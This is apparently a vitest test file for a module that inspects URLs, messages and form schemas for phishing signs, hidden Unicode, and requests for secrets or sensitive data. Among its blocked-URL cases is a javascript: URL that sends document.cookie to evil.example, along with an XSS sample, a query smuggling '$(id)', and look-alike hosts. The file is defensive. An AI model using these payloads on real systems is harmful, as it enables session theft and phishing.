import { describe, expect, it } from 'vitest';
import { defineForm, integer, readForm, text } from './index.js';
import { hasHiddenText, inspectForm, inspectMessage, inspectUrl, showText, unicodeHost, viewUrl } from './inspect.js';

const LATEST = { revision: '2026-07-28' } as const;
const FIRST = { revision: '2025-06-18' } as const;
const urlRules = (href: string): readonly string[] => inspectUrl(href, LATEST).map(finding => `${finding.id}:${finding.severity}`);
const formOf = (properties: object) => {
  const { form } = readForm({ type: 'object', properties }, LATEST);
  if (form === undefined) throw new Error('no form');
  return form;
};
const formRules = (properties: object, options: Parameters<typeof inspectForm>[1] = LATEST): readonly string[] =>
  inspectForm(formOf(properties), options).map(
    finding => `${typeof finding.where === 'object' ? finding.where.field : finding.where}:${finding.id}`,
  );

describe('text made safe to show [N11]', () => {
  it('makes what hides, moves or re-orders visible, and keeps newlines and tabs', () => {
    expect(showText('a\u202eb\u2066c')).toBe('a⟨U+202E⟩b⟨U+2066⟩c');
    expect(showText('Pay?\u001b[2J\u009b31m\u0007')).toBe('Pay?⟨U+001B⟩[2J⟨U+009B⟩31m⟨U+0007⟩');
    expect(showText('one\r\ntwo\tthree\rfour')).toBe('one\ntwo\tthree⟨U+000D⟩four');
    expect(showText('a\u200bb\ufeffc\u00add\u2060e')).toBe('a⟨U+200B⟩b⟨U+FEFF⟩c⟨U+00AD⟩d⟨U+2060⟩e');
    expect(showText('x\ud800y\u{e0041}')).toBe('x⟨U+D800⟩y⟨U+E0041⟩');
  });

  it('leaves the writing of every script as it is', () => {
    for (const honest of [
      'שם מלא (ID 42)',
      'كلمة\u200f المرور',
      'می\u200cخواهم',
      'क्\u200dष',
      '👨\u200d👩\u200d👧',
      '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
      '名前',
      'cafe\u0301',
      '葛\u{e0100}',
    ]) {
      expect([honest, showText(honest), hasHiddenText(honest)]).toEqual([honest, honest, false]);
    }
  });

  it('draws markup as the text it is', () => {
    const markup = '<img src=x onerror=alert(1)> [click](javascript:alert(1))';
    expect(showText(markup)).toBe(markup);
  });
});

describe('messages', () => {
  it('tells hidden text, control characters and addresses, each once, with where [E-U-03]', () => {
    const findings = inspectMessage('Hello \u202e there\u200b, sign in at https://evil.example/login \u001b[2J', LATEST);
    expect(findings.map(finding => finding.id)).toEqual(['bidi', 'control-characters', 'hidden-characters', 'link-in-text']);
    expect(findings.find(finding => finding.id === 'link-in-text')?.span).toEqual([27, 53]);
    expect(inspectMessage('Deploy v1.2 of node.js/README.md and/or 3.5 at 10:30?\nSee file.txt', LATEST)).toEqual([]);
    expect(inspectMessage('Open www.evil.example or login.bank.com/now', LATEST).map(finding => finding.id)).toEqual(['link-in-text']);
  });

  it('tells words that mix scripts to look like others, and no honest ones', () => {
    expect(inspectMessage('Sign in to Pаypal', LATEST).map(finding => finding.id)).toEqual(['mixed-script']);
    for (const honest of ['Привет мир', '5 µm and Δt', '東京タワーへようこそ', 'API密钥', 'Ελληνικά και English', '한국어 abc'])
      expect([honest, inspectMessage(honest, LATEST)]).toEqual([honest, []]);
  });
});

describe('evidence in addresses', () => {
  const marked = (href: string): Record<string, string> =>
    Object.fromEntries(
      inspectUrl(href, LATEST).flatMap(({ id, span }) => (span === undefined ? [] : [[id, href.slice(span[0], span[1])]])),
    );

  it('marks the label that imitates another, as it is written: in letters, in ASCII, after a sign-in and before a port [E-U-11, E-U-22]', () => {
    expect(marked('https://login.аррӏе.com/x')).toEqual({ 'punycode-host': 'аррӏе', 'look-alike-host': 'аррӏе' });
    expect(marked('https://a@b:c@xn--80ak6aa92e.com:8443/@no')).toEqual({
      'punycode-host': 'xn--80ak6aa92e',
      'look-alike-host': 'xn--80ak6aa92e',
      'odd-port': '8443',
      userinfo: 'a@b:c',
    });
    expect(marked('https://93.184.215.14?x=.')).toEqual({ 'raw-ip': '93.184.215.14' });
    expect(marked('https://paypаl。com/')['mixed-script']).toBe('paypаl');
  });

  it('marks nothing where an address is not written label by label as it is resolved', () => {
    expect(marked('https://%61.xn--80ak6aa92e%2ecom/')).toEqual({});
  });
});

describe('forms', () => {
  it('tells a field that asks for a secret, by name, title or description [E-P-02]', () => {
    expect(formRules({ apiKey: { type: 'string', title: 'Service' } })).toEqual(['apiKey:secret-ask']);
    expect(formRules({ value: { type: 'string', description: 'Your database password' } })).toEqual(['value:secret-ask']);
    expect(formRules({ v: { type: 'object', title: 'Card number' } })).toEqual(['v:secret-ask']);
    expect(inspectForm(formOf({ otp: { type: 'integer' } }), LATEST)).toMatchObject([
      { id: 'secret-ask', severity: 'danger', subject: 'code', where: { field: 'otp' } },
    ]);
  });

  it('tells a message that asks for one above a harmless field', () => {
    const properties = { value: { type: 'string' } };
    expect(formRules(properties, { ...LATEST, message: 'Enter your password to continue' })).toEqual(['message:secret-ask']);
    expect(formRules({ ok: { type: 'boolean' } }, { ...LATEST, message: 'Enter your password on the page that opens?' })).toEqual([]);
    expect(formRules(properties, { ...LATEST, message: 'Enter the code' })).toEqual([]);
  });

  it('does not cry wolf: fields that cannot carry a secret, and words that only sound like one', () => {
    expect(
      formRules({
        max_tokens: { type: 'integer' },
        tokens: { type: 'integer', title: 'Token' },
        sort_key: { type: 'string' },
        pinned: { type: 'boolean' },
        pin: { type: 'boolean' },
        policy: { type: 'string', enum: ['Password', 'API key'] },
        secret: { type: 'string', enum: ['db', 'mail'] },
        passenger_name: { type: 'string' },
      }),
    ).toEqual([]);
  });

  it('finds anything sensitive on 2025-06-18, numbers that identify later, contact data never [E-P-01]', () => {
    const properties = {
      ssn: { type: 'string' },
      salary: { type: 'integer' },
      birth: { type: 'string', title: 'Date of birth' },
      mail: { type: 'string', format: 'email' },
      name: { type: 'string' },
    };
    expect(formRules(properties, FIRST)).toEqual(['ssn:sensitive-ask', 'salary:sensitive-ask', 'birth:sensitive-ask']);
    expect(inspectForm(formOf(properties), FIRST).every(finding => finding.severity === 'danger')).toBe(true);
    expect(formRules(properties)).toEqual(['ssn:sensitive-ask']);
    expect(
      formRules(
        {
          a: { type: 'string', title: 'Health check' },
          b: { type: 'string', title: 'Race condition' },
          c: { type: 'string', title: 'Income tax form' },
        },
        FIRST,
      ),
    ).toEqual([]);
    expect(
      formRules(
        {
          a: { type: 'string', title: 'あなたの生年月日' },
          b: { type: 'string', title: 'Номер паспорта' },
          c: { type: 'string', title: 'SSN (last four)' },
        },
        FIRST,
      ),
    ).toEqual(['a:sensitive-ask', 'b:sensitive-ask', 'c:sensitive-ask']);
  });

  it('looks at every text of a field, and says each thing once [E-U-03]', () => {
    expect(
      formRules({
        a: { type: 'string', title: 'See https://evil.example/', description: 'and https://evil.example/2' },
        b: { type: 'string', oneOf: [{ const: 'x', title: 'ok\u202e' }] },
      }),
    ).toEqual(['a:link-in-text', 'b:bidi']);
  });

  it('finds nothing in an ordinary form', () => {
    const form = defineForm({ name: text({ title: 'Full name' }), seats: integer({ description: 'Between 1 and 9' }) });
    expect(inspectForm(form, { ...LATEST, message: 'Book a table?' })).toEqual([]);
  });
});

describe('addresses', () => {
  it('opens https anywhere, http only to this machine, and nothing else [E-U-04, E-U-22]', () => {
    expect(
      [
        'https://svc.example/in',
        'http://127.0.0.1:8912/in',
        'http://localhost/',
        'http://app.localhost:3000/',
        'http://[::1]:1/',
        'https://svc.example/in?a=1&calc.exe;$(id)',
      ].filter(href => !viewUrl(href).openable),
    ).toEqual([]);
    const blocked = [
      "javascript:fetch('https://evil.example/'+document.cookie)",
      'data:text/html,<h1>Sign in</h1>',
      'file://share.example/c$/run.bat',
      'vbscript:x',
      'command:workbench.action.terminal.new',
      '  JaVa\tscript:alert(1)',
      'not a url',
      '',
      '/in',
      '//svc.example/in',
      'http://svc.example/in',
      'http://localhost.evil.example/',
      'http://127.0.0.1.evil.example/',
      ' https://svc.example/',
      'https://svc.exa\tmple/',
      'https:\\\\svc.example',
      'ftp://svc.example/',
      'blob:https://svc.example/1',
      `https://svc.example/${'a'.repeat(9_000)}`,
    ];
    for (const href of blocked) {
      expect([href, viewUrl(href).openable]).toEqual([href, false]);
      expect([href, inspectUrl(href, LATEST).some(finding => finding.severity === 'danger')]).toEqual([href, true]);
    }
  });

  it('keeps the address byte for byte and sets the host apart as a browser resolves it [N10]', () => {
    expect(viewUrl('https://bank.example@evil.example/login')).toEqual({
      href: 'https://bank.example@evil.example/login',
      host: 'evil.example',
      openable: true,
    });
    expect(viewUrl('https://аррӏе.example/login').host).toBe('xn--80ak6aa92e.example');
    expect(viewUrl('https://GOOD.com.evil.io:444/%7E').host).toBe('good.com.evil.io');
    expect(viewUrl('https://0x7f.1/').host).toBe('127.0.0.1');
  });

  it('tells what is odd about the host, label by label [E-U-11]', () => {
    expect(urlRules('https://bank.example@evil.example/')).toEqual(['userinfo:danger']);
    expect(urlRules('https://аррӏе.example/')).toEqual(['look-alike-host:danger', 'punycode-host:warning']);
    expect(urlRules('https://www.exаmple.com/')).toEqual(['mixed-script:danger', 'punycode-host:warning']);
    expect(urlRules('https://login.münchen.de/')).toEqual(['punycode-host:warning']);
    expect(urlRules('https://例え.jp/')).toEqual(['punycode-host:warning']);
    expect(urlRules('https://хор.рф/')).toEqual(['punycode-host:warning']);
    for (const ip of ['https://192.168.1.1/', 'https://3232235777/', 'https://0xC0.0250.1.1/', 'https://[2001:db8::1]/'])
      expect([ip, urlRules(ip)]).toEqual([ip, ['raw-ip:warning']]);
    expect(urlRules('https://svc.example:8443/')).toEqual(['odd-port:warning']);
    expect(urlRules('https://svc.example/\u202egpj.exe')).toEqual(['bidi:danger']);
    expect(urlRules(`https://login.bank.example.${'a'.repeat(40)}.${'b'.repeat(40)}.evil.example/x`)).toEqual(['long-host:warning']);
    expect(urlRules(`https://svc.example/?q=${'a'.repeat(1_100)}`)).toEqual(['long-address:warning']);
  });

  it('tells personal data and sign-ins carried in the address, not opaque handles [E-U-01]', () => {
    for (const query of [
      'email=rowan%40mail.example',
      'access_token=abc123',
      'to=rowan@mail.example',
      'api-key=1',
      '#id_token=x',
      'a=1&password=x',
    ]) {
      expect([query, urlRules(`https://svc.example/in${query.startsWith('#') ? '' : '?'}${query}`)]).toEqual([
        query,
        ['sensitive-data-in-url:warning'],
      ]);
    }
    expect(urlRules('https://svc.example/connect?elicitation=3f0d6c1e&state=x&%zz=1')).toEqual([]);
  });

  it('finds nothing odd in an ordinary address, nor in one of this machine', () => {
    for (const href of [
      'https://svc.example/in',
      'https://accounts.example.com/o/auth?client_id=1',
      'http://127.0.0.1:8912/in',
      'http://localhost:3000/',
    ])
      expect([href, urlRules(href)]).toEqual([href, []]);
  });

  it('never fetches or resolves what it judges [N10]', () => {
    const fetched: unknown[] = [];
    const before = globalThis.fetch;
    globalThis.fetch = ((...request: unknown[]) => {
      fetched.push(request);
      return Promise.reject(new Error('no network here'));
    }) as typeof fetch;
    try {
      inspectUrl('https://svc.example/in', LATEST);
      viewUrl('https://svc.example/in');
      inspectMessage('https://svc.example/in', LATEST);
    } finally {
      globalThis.fetch = before;
    }
    expect(fetched).toEqual([]);
  });

  it('decodes Punycode as RFC 3492 does and survives what is none', () => {
    expect(
      ['xn--mnchen-3ya.de', 'xn--80ak6aa92e.example', 'xn--r8jz45g.jp', 'xn--e1afmkfd.xn--p1ai', 'plain.example', 'xn--n3h.example'].map(
        unicodeHost,
      ),
    ).toEqual(['münchen.de', 'аррӏе.example', '例え.jp', 'пример.рф', 'plain.example', '☃.example']);
    for (const broken of ['xn--', 'xn--!!!', 'xn--99999999999', `xn--${'z'.repeat(200)}`]) expect(() => unicodeHost(broken)).not.toThrow();
  });

  it('takes bounded time for hostile addresses and texts [N11]', () => {
    const start = performance.now();
    for (const hostile of [
      'https://',
      `https://${'a.'.repeat(4_000)}`,
      `https://xn--${'a'.repeat(60)}.${'xn--a.'.repeat(500)}`,
      `https://a/?${'&='.repeat(3_900)}`,
      '@'.repeat(8_000),
      `https://${'%41'.repeat(2_700)}`,
    ])
      inspectUrl(hostile, LATEST);
    for (const hostile of [
      'a.'.repeat(30_000),
      'http:/'.repeat(10_000),
      'www'.repeat(20_000),
      'а'.repeat(60_000),
      '\u202e'.repeat(60_000),
      'a-'.repeat(30_000),
    ]) {
      inspectMessage(hostile, LATEST);
      showText(hostile);
    }
    expect(performance.now() - start).toBeLessThan(3_000);
  });
});
